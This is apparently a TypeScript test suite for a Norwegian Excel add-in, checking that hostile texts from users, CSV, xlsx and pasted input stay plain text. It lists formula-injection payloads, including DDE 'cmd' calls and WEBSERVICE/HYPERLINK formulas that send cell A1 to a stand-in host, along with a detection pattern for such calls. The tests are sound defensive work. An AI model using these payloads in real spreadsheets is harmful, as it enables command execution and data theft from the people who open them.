/** Texts from users, files and services stay texts in sheets, in files and when they are written again. */
import { strFromU8, unzipSync } from 'fflate';
import fc from '../fastCheck';
import { recalculate } from '../../scripts/libreoffice';
import { dataTables, withAllTables } from '../../src/case/dataTables';
import { functions } from '../../src/functions/catalogue';
import type { Host } from '../../src/excelHost';
import { createHeadlessHost } from '../../src/excelHost/headless';
import type { WorkbookSnapshot } from '../../src/excelHost/snapshot';
import { fromXlsx } from '../../src/xlsx/fromXlsx';
import { toXlsx } from '../../src/xlsx/toXlsx';
import { readFile, readPaste } from '../../src/sources/files/readFile';
import { toRows } from '../../src/sources/files/toRows';
import { withColumnsConfirmed } from '../../src/sources/files/understand';
import { loadSample } from '../../src/sources/sample';
import { plainText, quoted } from '../../src/tables/plainText';
import { changeCase } from '../../src/workbook/changeCase';
import { generateTables, insertCase } from '../../src/workbook/commands';
import { openCase } from '../../src/workbook/readWorkbook';
import { genuineExcel } from '../genuineClient';
import { isLong, sampled, seed } from '../sampling';
import { understandAs } from '../sources/files/understandAs';
import { recordWhole } from './recordWhole';
import { today } from '../today';

const nb = { language: 'nb' } as const;

/** Texts that a spreadsheet may read as a formula or a command. */
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://elsewhere.test/?"&A1,"klikk")',
  '=WEBSERVICE("https://elsewhere.test/"&A1)',
  '=IMPORTXML("https://elsewhere.test","//a")',
  '={1;2}',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  "'=1+1",
  "''=1+1",
  "'",
  `"=1+1"`,
  '";=1+1;"',
  ';=1+1',
  '"&WEBSERVICE("https://elsewhere.test")&"',
  '""',
  '{=1+1}',
  '%0A=1+1',
  "='C:\\[x.xls]A'!A1",
  'javascript:alert(1)',
  '<script>alert(1)</script>',
];
/** Formulas after white space. Fields of the case remove white space at the ends. */
const formulasAfterSpace = ['\t=1+1', '\r=1+1', '\n=1+1', '\r\n=1+1', ' =1+1', '\u00a0=1+1'];
/** Texts that Excel, in Norwegian or English, reads as a number, a date, a boolean or an error. */
const figures = [
  ...['2020', '0301', '10-12', '3/4', '5 %', '12:30', '1E5', '12,5', '1 638', '974 761 076', '35 00 00 00', '(5)', '-5', '.5'],
  ...[
    '2026-11-24',
    '24.11.2026',
    '2 mai 2026',
    '2. okt',
    'mai 2026',
    'Des-26',
    'kr 500',
    '500 kr',
    '€ 5',
    'TRUE',
    'sann',
    '#N/A',
  ],
];
const hostile = [...formulas, ...formulasAfterSpace, ...figures];
const counted = { texts: hostile.length, cells: 0, formulasRead: 0, arbitraryTexts: 0, cellsOfFiles: 0 };

afterAll(() => {
  recordWhole('injection', counted);
});

function openHost(): Host {
  const host = createHeadlessHost(functions);
  globalThis.Excel = genuineExcel(host);
  return host;
}

const column = async (change: (range: Excel.Range) => void, count: number): Promise<{ values: unknown[]; formulas: unknown[] }> =>
  Excel.run(async (context) => {
    const range = context.workbook.worksheets.getFirst().getRange(`A1:A${count}`);
    change(range);
    range.load('values,formulas');
    await context.sync();
    return { values: range.values.flat() as unknown[], formulas: range.formulas.flat() as unknown[] };
  });

/** Returns all formulas of the workbook. */
const formulasIn = ({ sheets }: WorkbookSnapshot): string[] =>
  sheets.flatMap(({ cells }) => cells.flatMap(({ formula }) => formula ?? []));

/** Removes texts, sheet names and links to our own tables from a formula, so that only its operations are left. */
const withoutTexts = (formula: string): string =>
  formula
    .replace(/^=?HYPERLINK\("#Tabell_\w+",/, '')
    .replace(/"(?:[^"]|"")*"/g, '""')
    .replace(/'(?:[^']|'')*'!/g, 'ark!');
const callsOutside = /WEBSERVICE|HYPERLINK|IMPORT|\bcmd\b|\||javascript|<script|elsewhere/i;

describe('A cell', () => {
  beforeAll(() => void openHost());

  test.each([...formulas, ...figures].map((text) => [JSON.stringify(text), text] as const))(
    'shows %s unchanged',
    async (_, text) => {
      for (const way of ['values', 'formulas'] as const) {
        const written = await column((range) => (range[way] = [[plainText(text)]]), 1);
        expect(written.values).toEqual([text]);
      }
    },
  );

  test('gets an apostrophe when Excel would read it as something other than text', () => {
    const harmlessTexts = ['"=1+1"', '";=1+1;"', ';=1+1', '"&WEBSERVICE("https://elsewhere.test")&"', '""', '{=1+1}', '%0A=1+1'];
    const withoutApostrophe = [...harmlessTexts, 'javascript:alert(1)', '<script>alert(1)</script>', ' =1+1', '\u00a0=1+1'];
    for (const text of hostile) expect(plainText(text)).toBe(withoutApostrophe.includes(text) ? text : `'${text}`);
  });

  test('gets no apostrophe when Excel would read it as text', () => {
    for (const text of [
      'Hjartdal',
      '16-19 år',
      '45-47 Varehandel',
      'Mai',
      'Marked 2030',
      'Nov',
      '..',
      '–',
      'S1 Nøkkeltall',
      'a=b',
      '',
    ])
      expect(plainText(text)).toBe(text);
  });

  test('shows any text unchanged', async () => {
    const text = fc.string({ unit: 'binary', minLength: 1, maxLength: 60 });
    const sign = fc.constantFrom('', '=', '+', '-', '@', "'", '\t', '\r', '＝', '"', '#', '1', '{');
    const signedText = fc.tuple(sign, text).map(([first, rest]) => first + rest);
    await fc.assert(
      fc.asyncProperty(fc.array(signedText, { minLength: 50, maxLength: 50 }), async (texts) => {
        counted.arbitraryTexts += texts.length;
        const { values } = await column((range) => (range.formulas = texts.map((written) => [plainText(written)])), texts.length);
        expect(values).toEqual(texts);
      }),
      { numRuns: isLong ? 60 : 15, seed },
    );
  });
});

test('A text in a formula stays the same text, in pieces that Excel accepts', async () => {
  openHost();
  // The emoji consists of two UTF-16 units. It is never cut, because half of it cannot be stored in a file.
  const anyText = fc.string({ unit: fc.constantFrom('"', 'a', '=', '&', '🏔', 'å', ' ', '('), minLength: 1, maxLength: 700 });
  await fc.assert(
    fc.asyncProperty(anyText, async (text) => {
      counted.arbitraryTexts++;
      const pieces = quoted(text).match(/"(?:[^"]|"")*"/g) ?? [];
      for (const piece of pieces) {
        expect(piece.slice(1, -1).replaceAll('""', '"').length).toBeLessThanOrEqual(255);
        expect(piece).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/);
      }
      expect(pieces.map((piece) => piece.slice(1, -1).replaceAll('""', '"')).join('')).toBe(text);
      // The engine of the embedded workbook reads two adjacent quotation marks as one; Excel does not.
      if (text.includes('""')) return;
      const { values } = await column((range) => (range.formulas = [[`=${quoted(text)}`]]), 1);
      expect(values).toEqual([text]);
    }),
    { numRuns: isLong ? 150 : 40, seed },
  );
});

/** Returns the case Hjartdal with a hostile text in each place where somebody can write a text. */
async function hostileCase(pick: (index: number) => string) {
  const { case: values, data, ...rest } = await loadSample('hjartdal');
  const { municipalities, losses, employment, population, commuting } = data;
  return {
    ...rest,
    notes: { ...rest.notes, area: pick(0), losses: pick(1) },
    lacks: [pick(33)],
    values: { ...values, area: pick(2), applicant: pick(3), contact: pick(4), employer: pick(5), industry: pick(6) },
    data: withAllTables({
      municipalities,
      losses,
      employment: [
        ...employment,
        ['4024', 'Hjartdal', 'kommune', pick(7), 2023, 10, pick(8), '2026-11-23'],
        ['4024', 'Hjartdal', 'kommune', pick(7), 2020, 20, pick(8), '2026-11-23'],
      ],
      population,
      commuting: [...commuting, ['Hjartdal', pick(9), 2023, 5, pick(10), '2026-11-23']],
      focusAreas: [
        [pick(11), 0.5],
        [pick(12), 0.5],
      ],
      measures: [[pick(11), pick(13), pick(14), pick(15), pick(16), 1_000_000, pick(17), pick(18), 1, 2, 3, 4]],
      projects: [[pick(19), pick(11), 'forstudie', pick(20), 2027, 100_000, 50_000, 0, 0, pick(21), null]],
      board: [[pick(22), 'K', pick(23)]],
      status: [[pick(24), 2027, 4, pick(25)]],
      areas: [[pick(26), 118, 25, 1638, null]],
      contributions: [[pick(27), pick(28), pick(29), 1_000, pick(30), '2027-01-01', 'JA']],
      accounts: [['kostnad', 'Administrasjon', 2027, 1_000, pick(31)]],
      results: [['Nye arbeidsplasser', 2027, 5, 6, pick(32)]],
    }),
  };
}

/** The texts that a field stores unchanged. The text #N/A is left out, because the host cannot distinguish it from the error. */
const storedTexts = [...formulas, ...figures.filter((text) => text !== '#N/A')];
const rounds = [0, 1] as const;
const pickFrom =
  (round: number) =>
  (index: number): string =>
    storedTexts[(round * 34 + index) % storedTexts.length]!;

async function checkInLibreOffice(file: Uint8Array, texts: readonly string[]): Promise<void> {
  const sheets = await recalculate(file);
  const shown = new Set([...sheets.values()].flatMap((cells) => [...cells.values()]));
  for (const text of texts) expect([text, shown.has(text)]).toEqual([text, true]);
  counted.cellsOfFiles += [...sheets.values()].reduce((sum, cells) => sum + cells.size, 0);
}

describe('A case with hostile texts everywhere', () => {
  test.each(sampled('a case', rounds, 1))(
    'is read as it was written, and no formula of its tables contains their commands: round %i',
    async (round) => {
      const host = openHost();
      const pick = pickFrom(round);
      const input = await hostileCase(pick);
      await insertCase(input, nb);
      const { case: read, data } = await openCase('nb');
      for (const key of ['area', 'applicant', 'contact', 'employer', 'industry'] as const)
        expect(read[key]).toBe(input.values[key]);
      for (const key of ['focusAreas', 'measures', 'board', 'status', 'areas', 'projects', 'results'] as const)
        expect(
          data[key].map((row) => row.slice(0, input.data[key][0]!.length).map((cell) => (cell === '' ? null : cell))),
        ).toEqual(input.data[key]);

      await generateTables(['application', 'budget', 'followUp', 'county'], today, nb);
      const made = await host.snapshot();
      const all = formulasIn(made);
      counted.formulasRead += all.length;
      expect(all.length).toBeGreaterThan(1_000);
      expect(all.filter((formula) => storedTexts.includes(formula))).toEqual([]);
      expect(all.filter((formula) => callsOutside.test(withoutTexts(formula)))).toEqual([]);
      const shown = new Set(made.sheets.flatMap(({ cells }) => cells.map(({ value }) => value)));
      const used = Array.from({ length: 34 }, (_, index) => pick(index));
      expect(used.filter((text) => !shown.has(text))).toEqual([]);
      counted.cells += made.sheets.reduce((sum, { cells }) => sum + cells.length, 0);

      // They are texts in the file too, for our reader and for LibreOffice. LibreOffice is slow to start, so only long runs use it.
      const copy = await toXlsx(made, { forSharing: true });
      const again = new Set(
        (await fromXlsx(copy)).sheets.flatMap(({ cells }) =>
          cells.flatMap((cell) => (cell.formula === undefined ? cell.value : [])),
        ),
      );
      for (const text of used) expect([text, again.has(text)]).toEqual([text, true]);
      if (isLong) await checkInLibreOffice(copy, used);
      const parts = unzipSync(copy);
      const stored = Object.keys(parts)
        .filter((path) => /worksheets\/sheet\d+\.xml$/.test(path))
        .flatMap((path) =>
          [...strFromU8(parts[path]!).matchAll(/<f[^>]*>([^<]*)<\/f>/g)].map(([, formula = '']) =>
            formula.replaceAll('&quot;', '"').replaceAll('&apos;', "'"),
          ),
        );
      expect(stored.filter((formula) => callsOutside.test(withoutTexts(formula)))).toEqual([]);
      expect(Object.keys(parts).filter((path) => /externalLink|vbaProject|connections/.test(path))).toEqual([]);
    },
  );

  test('keeps its texts when the pane writes them again and again: no apostrophe is added or lost', async () => {
    openHost();
    await insertCase(await hostileCase(() => 'x'), nb);
    for (const text of sampled('changed from the pane', storedTexts, 6)) {
      for (let time = 0; time < 2; time++) {
        const { data } = await openCase('nb');
        const focusAreas =
          time === 0
            ? [
                [text, 0.5],
                ['Annet', 0.5],
              ]
            : data.focusAreas;
        await changeCase({ values: { area: text, applicant: text }, lists: { focusAreas } }, 'nb');
      }
      const { case: read, data } = await openCase('nb');
      expect([read.area, read.applicant, data.focusAreas[0]?.[0]]).toEqual([text, text, text]);
    }
  });
});

describe('A text that a user typed after an apostrophe', () => {
  const typed = [...formulas, ...formulasAfterSpace, ...figures];
  const write = (sheet: string, address: string, text: string): Promise<void> =>
    Excel.run(async (context) => {
      context.workbook.worksheets.getItem(sheet).getRange(address).values = [[`'${text}`]];
      await context.sync();
    });
  const read = (sheet: string, address: string): Promise<{ value: unknown; text: boolean }> =>
    Excel.run(async (context) => {
      const range = context.workbook.worksheets.getItem(sheet).getRange(address);
      range.load('values,formulas');
      await context.sync();
      return { value: range.values[0]?.[0], text: range.values[0]?.[0] === range.formulas[0]?.[0] };
    });

  test('stays text when the tables are made again: in an input cell, in a blank cell and beside the table', async () => {
    openHost();
    await insertCase(await hostileCase(() => 'x'), nb);
    await generateTables(['budget'], today, nb);
    const beside = async (change: (range: Excel.Range) => void) =>
      Excel.run(async (context) => {
        const range = context.workbook.worksheets.getItem('B3 Tilsagn').getRange(`Z5:Z${typed.length + 4}`);
        change(range);
        range.load('values,formulas');
        await context.sync();
        return { values: range.values.flat() as unknown[], formulas: range.formulas.flat() as unknown[] };
      });
    await beside((range) => (range.values = typed.map((text) => [`'${text}`])));
    for (const text of sampled('made again', typed.slice(0, 12), 2)) {
      await write('B3 Tilsagn', 'D5', text);
      await write('B3 Tilsagn', 'B12', text);
      await generateTables(['budget'], today, nb);
      await generateTables(['budget'], today, nb);
      for (const cell of ['D5', 'B12'])
        expect([cell, await read('B3 Tilsagn', cell)]).toEqual([cell, { value: text, text: true }]);
    }
    expect(await beside(() => undefined)).toEqual({ values: typed, formulas: typed });
  });

  test('stays text in a user’s column beside a list, when the list is changed in the pane', async () => {
    openHost();
    await insertCase(await hostileCase(() => 'x'), nb);
    const { data } = await openCase('nb');
    const sheet = 'Data tiltak';
    await Excel.run(async (context) => {
      // The host cannot widen a table, so this test makes the table again with one more column.
      context.workbook.tables.getItem('Tiltak').delete();
      await context.sync();
      const worksheet = context.workbook.worksheets.getItem(sheet);
      const [line] = data.measures;
      worksheet.getRange('A4:M5').values = [
        [...dataTables.measures.columns.map(({ header }) => header), 'Notat'],
        [...line!.map((content) => content ?? ''), ''],
      ];
      worksheet.tables.add('A4:M5', true).name = 'Tiltak';
      await context.sync();
    });
    const [row] = data.measures;
    for (const text of sampled('beside our list', typed, 6)) {
      await write(sheet, 'M5', text);
      await changeCase({ figures: { measures: [row!, ...data.measures.slice(1)] } }, 'nb');
      expect(await read(sheet, 'M5')).toEqual({ value: text, text: true });
    }
  });
});

describe('A file', () => {
  const cell = (text: string): string => `"${text.replaceAll('"', '""')}"`;
  const industries = [...formulas, ...figures.filter((text) => !/^[\d.,]+$/.test(text))];
  const csv = ['År;Region;Næring;Sysselsatte', ...industries.map((text) => `2020;Hjartdal;${cell(text)};186`)].join('\n');
  const paste = csv
    .replaceAll(';Hjartdal;', '\tHjartdal\t')
    .replaceAll(/;186$/gm, '\t186')
    .replace('År;Region;Næring;Sysselsatte', 'År\tRegion\tNæring\tSysselsatte');

  test.each([
    ['of CSV', () => readFile('tall.csv', new TextEncoder().encode(csv))],
    [
      'of Excel',
      async () => {
        const { writeXlsx } = await import('hucre');
        const rows = [['År', 'Region', 'Næring', 'Sysselsatte'], ...industries.map((text) => [2020, 'Hjartdal', text, 186])];
        return readFile('tall.xlsx', await writeXlsx({ sheets: [{ name: 'Ark1', rows }] }));
      },
    ],
    ['of pasted text', () => Promise.resolve(readPaste(paste))],
  ])('%s puts its texts in the workbook as texts', async (_, reading) => {
    const host = openHost();
    await insertCase(await hostileCase(() => 'x'), nb);
    const [table] = await reading();
    const { rows } = toRows(table!, withColumnsConfirmed(understandAs(table!, 'employment')), 'employment', {
      today: '2026-11-23',
      fileName: '=1+1.csv',
    });
    const texts = rows.map((row) => row[3]);
    expect(texts.length).toBeGreaterThan(20);
    await changeCase({ figures: { employment: rows } }, 'nb');
    const { data } = await openCase('nb');
    expect(data.employment.map((row) => row[3])).toEqual(texts);
    const sheet = (await host.snapshot()).sheets.find(({ name }) => name === 'Data sysselsetting');
    expect(sheet?.cells.filter(({ column: index, formula }) => index === 3 && formula !== undefined)).toEqual([]);
  });
});

describe('Names', () => {
  test('of sheets, ranges and tables are valid in Excel, and unique without regard to case', async () => {
    const host = openHost();
    await insertCase(await hostileCase(pickFrom(0)), nb);
    // The user has given a sheet the longest and oddest name that Excel allows.
    await generateTables(['budget'], today, nb);
    const odd = 'O\'Brien & =SUM(1)+{x};"y" -@ 31';
    expect(odd.length).toBe(31);
    await Excel.run(async (context) => {
      context.workbook.worksheets.getItem('B2 Kostnadsplan').name = odd;
      context.workbook.worksheets.getItem(odd).getRange('Z2').values = [['Husk']];
      context.workbook.tables.getItem('Innsats').rows.add(undefined, [['Havbruk', 0.2]]);
      await context.sync();
    });
    await generateTables(isLong ? ['application', 'budget', 'followUp', 'county'] : ['budget', 'county'], today, nb);
    const { sheets, names } = await host.snapshot();
    const sheetNames = sheets.map(({ name }) => name);
    for (const name of sheetNames) {
      expect(name).toMatch(/^(?!')[^:\\/?*[\]]{1,31}(?<!')$/);
      expect(name.toLowerCase()).not.toBe('history');
    }
    const defined = [...names.map(({ name }) => name), ...sheets.flatMap(({ tables }) => tables.map(({ name }) => name))];
    for (const name of defined) {
      expect(name).toMatch(/^[\p{L}_\\][\p{L}\d_.]{0,254}$/u);
      expect(name).not.toMatch(/^(?:[a-z]{1,3}\d+|r\d*c\d*|r|c)$/i);
    }
    for (const list of [sheetNames, defined]) expect(new Set(list.map((name) => name.toLowerCase())).size).toBe(list.length);
    expect(sheetNames.some((name) => name.startsWith("O'Brien"))).toBe(true);
  });
});
